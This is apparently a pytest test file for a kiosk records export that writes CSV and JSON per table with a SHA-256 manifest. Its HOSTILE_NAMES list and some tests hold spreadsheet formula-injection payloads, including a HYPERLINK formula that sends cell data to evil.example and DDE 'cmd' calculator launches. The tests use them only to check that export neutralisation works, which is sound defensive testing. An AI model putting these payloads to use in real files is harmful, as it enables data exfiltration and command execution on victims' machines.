"""The export for the service mode's USB stick: CSV + JSON per table, metadata, and a
``MANIFEST.sha256`` that ``sha256sum -c`` accepts and that shows any later change."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from kiosk.records.clients import ClientRegistry
from kiosk.records.events import ChainProblem
from kiosk.records.export import MANIFEST_NAME, ExportError, export_to, verify_export
from kiosk.records.sessions import ProgramChoice, SessionBook, SessionSummary
from kiosk.records.store import RecordStore
from tests.records.helpers import append, raw_connection

PROGRAM = ProgramChoice("neck", "ageing", "neck.ageing", "2", "hyaluronic acid (-)", "negative",
                        "neck.pad15", 0.5)


@pytest.fixture
def filled(store: RecordStore) -> RecordStore:
    registry = ClientRegistry(store)
    book = SessionBook(store)
    for name in ("Anna Beispiel", None):
        client = registry.create_client(name)
        session_id = book.start_session(client.client_id, "Eva")
        book.record_screening(session_id, {"pacemaker": False, "pregnancy": False})
        book.record_program(session_id, PROGRAM)
        book.add_sensation(session_id, "warm")
        book.add_operator_change(session_id, "current_ma", 0.5, 0.45)
        book.close_session(session_id, SessionSummary("completed", 0.46, 0.5, 4.4, 600.0,
                                                      ("regulation",),
                                                      ({"t_s": 0.0, "event": "ramp_up"},)))
    append(store, 5)
    return store


def test_the_export_holds_every_table_twice_and_a_manifest_sha256sum_accepts(
        filled: RecordStore, tmp_path: Path) -> None:
    (tmp_path / "usb").mkdir()
    result = export_to(filled, tmp_path / "usb" / "export-1", wall_now_s=lambda: 1.79e9)
    names = sorted(p.name for p in result.directory.iterdir())
    assert names == sorted(["MANIFEST.sha256", "export.json", "clients.csv", "clients.json",
                            "events.csv", "events.json", "operator_changes.csv",
                            "operator_changes.json", "sessions.csv", "sessions.json"])
    assert result.counts == {"events": 6, "sessions": 2, "operator_changes": 2, "clients": 2}
    assert verify_export(result.directory) == []
    if shutil.which("sha256sum"):
        check = subprocess.run(["sha256sum", "-c", "--strict", MANIFEST_NAME],
                               cwd=result.directory, capture_output=True, text=True, check=False)
        assert check.returncode == 0, check.stdout + check.stderr


def test_csv_and_json_carry_the_same_rows(filled: RecordStore, tmp_path: Path) -> None:
    result = export_to(filled, tmp_path / "export")
    with (result.directory / "sessions.csv").open(encoding="utf-8", newline="") as handle:
        csv_rows = list(csv.DictReader(handle))
    json_rows = json.loads((result.directory / "sessions.json").read_text("utf-8"))
    assert [r["session_id"] for r in csv_rows] == [r["session_id"] for r in json_rows]
    assert json_rows[0]["faults"] == ["regulation"]
    assert json.loads(csv_rows[0]["faults"]) == ["regulation"]
    assert json_rows[0]["dose_ma_min"] == 4.4 and csv_rows[0]["dose_ma_min"] == "4.4"
    assert json_rows[0]["started_utc"].endswith("+00:00")
    events = json.loads((result.directory / "events.json").read_text("utf-8"))
    assert events[-1]["details"] == {"i": 4}
    assert [e["seq"] for e in events] == list(range(1, 7))


def test_personal_data_stays_out_unless_asked_for(filled: RecordStore, tmp_path: Path) -> None:
    plain = export_to(filled, tmp_path / "plain")
    text = "".join(p.read_text("utf-8") for p in plain.directory.iterdir())
    assert "Anna Beispiel" not in text and "pacemaker" not in text and "warm" not in text
    assert json.loads((plain.directory / "export.json").read_text())["personal_data"] is False

    full = export_to(filled, tmp_path / "full", include_personal_data=True)
    clients = json.loads((full.directory / "clients.json").read_text("utf-8"))
    assert {c["display_name"] for c in clients} == {"Anna Beispiel", None}
    answers = json.loads((full.directory / "screening_answers.json").read_text("utf-8"))
    assert len(answers) == 4 and all(a["answer_yes"] is False for a in answers)
    assert full.counts["sensations"] == 2
    assert verify_export(full.directory) == []


def test_the_metadata_names_the_chain_head_as_an_anchor(filled: RecordStore,
                                                        tmp_path: Path) -> None:
    result = export_to(filled, tmp_path / "export")
    chain = json.loads((result.directory / "export.json").read_text("utf-8"))["event_chain"]
    assert chain["ok"] is True and chain["last_seq"] == 6
    assert filled.verify_chain(anchor=(chain["last_seq"], chain["last_hash"])).ok


def test_a_broken_chain_is_exported_with_its_verdict(filled: RecordStore,
                                                     tmp_path: Path) -> None:
    raw_connection(filled.path).execute("DELETE FROM events WHERE seq = 3")
    result = export_to(filled, tmp_path / "export")
    chain = json.loads((result.directory / "export.json").read_text("utf-8"))["event_chain"]
    assert (chain["ok"], chain["first_bad_seq"], chain["problem"]) == (
        False, 3, ChainProblem.MISSING.value)
    assert result.counts["events"] == 5


def test_a_changed_missing_or_added_file_is_found(filled: RecordStore, tmp_path: Path) -> None:
    result = export_to(filled, tmp_path / "export")
    folder = result.directory
    (folder / "events.csv").write_text("seq\n1\n", encoding="utf-8")
    (folder / "clients.json").unlink()
    (folder / "notes.txt").write_text("hello", encoding="utf-8")
    assert sorted(verify_export(folder)) == [
        "clients.json is missing", "events.csv was changed (checksum differs)",
        "notes.txt is not in the manifest"]


def test_an_export_never_mixes_with_an_earlier_one(filled: RecordStore, tmp_path: Path) -> None:
    export_to(filled, tmp_path / "export")
    with pytest.raises(ExportError, match="not empty"):
        export_to(filled, tmp_path / "export")


def test_an_empty_database_exports_empty_tables(store: RecordStore, tmp_path: Path) -> None:
    result = export_to(store, tmp_path / "export")
    assert json.loads((result.directory / "sessions.json").read_text()) == []
    assert (result.directory / "sessions.csv").read_text().count("\n") == 1  # header only
    assert verify_export(result.directory) == []


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                 "Anna =1+1", "'=already quoted"]


@pytest.mark.requirement("SR-062")
def test_hostile_client_names_leave_as_text_in_csv_and_exact_in_json(
        store: RecordStore, tmp_path: Path) -> None:
    registry = ClientRegistry(store)
    book = SessionBook(store)
    for name in HOSTILE_NAMES:
        client = registry.create_client(name)
        session_id = book.start_session(client.client_id, "=cmd|' /C calc'!A0")
        book.record_screening(session_id, {"pacemaker": False})
        book.close_session(session_id, SessionSummary("-danger", faults=("@x",)))
    result = export_to(store, tmp_path / "export", include_personal_data=True)
    clients = json.loads((result.directory / "clients.json").read_text("utf-8"))
    stored = [c["display_name"] for c in clients]  # JSON: the text exactly as stored
    assert sum(name.startswith(("=", "+", "-", "@")) for name in stored) >= 6
    with (result.directory / "clients.csv").open(encoding="utf-8", newline="") as handle:
        names = [row["display_name"] for row in csv.DictReader(handle)]
    assert names == ["'" + name if name.startswith(("=", "+", "-", "@", "\t", "\r")) else name
                     for name in stored]
    assert "Anna =1+1" in names and "'=already quoted" in names  # nothing to neutralise
    for path in result.directory.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
    sessions = json.loads((result.directory / "sessions.json").read_text("utf-8"))
    assert {s["operator"] for s in sessions} == {"=cmd|' /C calc'!A0"}
    assert verify_export(result.directory) == []


@pytest.mark.requirement("SR-062")
def test_numbers_stay_numbers_in_csv(store: RecordStore, tmp_path: Path) -> None:
    client = ClientRegistry(store).create_client(None)
    book = SessionBook(store)
    session_id = book.start_session(client.client_id, "Eva")
    book.record_screening(session_id, {"pacemaker": False})
    book.record_program(session_id, PROGRAM)
    book.add_operator_change(session_id, "current_ma", 0.5, -0.25)
    result = export_to(store, tmp_path / "export")
    with (result.directory / "operator_changes.csv").open(encoding="utf-8",
                                                          newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["new_value"] == "-0.25"  # a number, not text: no quote


@pytest.mark.requirement("SR-062")
def test_export_files_are_private_and_the_folder_too(filled: RecordStore,
                                                     tmp_path: Path) -> None:
    given = tmp_path / "given"
    given.mkdir(mode=0o755)
    given.chmod(0o755)
    for target in (tmp_path / "new", given):
        result = export_to(filled, target, include_personal_data=True)
        assert oct(result.directory.stat().st_mode & 0o777) == "0o700"
        for path in result.directory.iterdir():
            assert oct(path.stat().st_mode & 0o777) == "0o600", path.name


def test_the_manifest_opens_with_the_chain_anchor_and_sha256sum_still_accepts_it(
        filled: RecordStore, tmp_path: Path) -> None:
    from kiosk.records.export import export_anchor

    result = export_to(filled, tmp_path / "export")
    first = (result.directory / MANIFEST_NAME).read_text("ascii").splitlines()[0]
    anchored = export_anchor(result.directory)
    assert anchored is not None
    assert first == f"# event-chain-anchor seq={anchored.seq} hash={anchored.hash}"
    assert filled.verify_chain(anchor=(anchored.seq, anchored.hash)).ok
    if shutil.which("sha256sum"):
        check = subprocess.run(["sha256sum", "-c", "--strict", MANIFEST_NAME],
                               cwd=result.directory, capture_output=True, text=True, check=False)
        assert check.returncode == 0, check.stdout + check.stderr


@pytest.mark.requirement("SR-061")
@pytest.mark.parametrize("content", [b"\xff\xfe\x00binary", b"# x\n" * 20_000])
def test_a_junk_or_oversized_manifest_is_a_finding_not_a_crash(
        filled: RecordStore, tmp_path: Path, content: bytes) -> None:
    from kiosk.records.export import export_anchor

    result = export_to(filled, tmp_path / "export")
    (result.directory / MANIFEST_NAME).write_bytes(content)
    problems = verify_export(result.directory)
    assert len(problems) == 1 and MANIFEST_NAME in problems[0]
    with pytest.raises(ExportError, match=MANIFEST_NAME):
        export_anchor(result.directory)


@pytest.mark.requirement("SR-062")
@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("", ""), ("a=1", "a=1"), ('{"i":1}', '{"i":1}'), (-1.5, -1.5), (3, 3),
    (None, None)])
def test_the_owasp_rule_cell_by_cell(cell: object, expected: object) -> None:
    from kiosk.records.export import neutralise_formula

    assert neutralise_formula(cell) == expected
